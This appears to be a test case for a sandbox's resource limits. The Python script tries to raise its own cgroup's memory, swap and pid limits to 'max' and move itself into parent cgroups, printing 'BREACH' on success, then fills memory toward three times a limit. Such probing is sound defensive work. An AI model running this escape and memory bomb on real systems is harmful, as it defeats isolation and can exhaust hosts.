# cgroup_escape_then_bomb: raises its own cgroup's limits or moves itself out, then allocates
# class: memory
# tests: assert

import os
held = 0
try:
    rel = open('/proc/self/cgroup').read().strip().split('::')[-1]
except OSError as e:
    rel = None
    print('no cgroup info', e)
if rel is not None:
    parts = rel.strip('/').split('/') if rel.strip('/') else []
    for i in range(len(parts), -1, -1):
        d = os.path.join('/sys/fs/cgroup', *parts[:i])
        for fname, value in (('memory.max', 'max'), ('memory.swap.max', 'max'), ('pids.max', 'max')):
            try:
                with open(os.path.join(d, fname), 'w') as fh:
                    fh.write(value)
                print('BREACH raised', d, fname)
            except OSError:
                pass
        if i < len(parts):
            try:
                with open(os.path.join(d, 'cgroup.procs'), 'w') as fh:
                    fh.write(str(os.getpid()))
                print('BREACH moved to', d)
            except OSError:
                pass
fd = os.memfd_create(JUNK)
chunk = b'\1' * (16 << 20)
try:
    while held < 3 * MEMORY_MB:
        os.write(fd, chunk)
        held += 16
        print('HELD', os.getpid(), held, flush=True)
except OSError as e:
    print('stopped', e)
def f(x):
    return 0
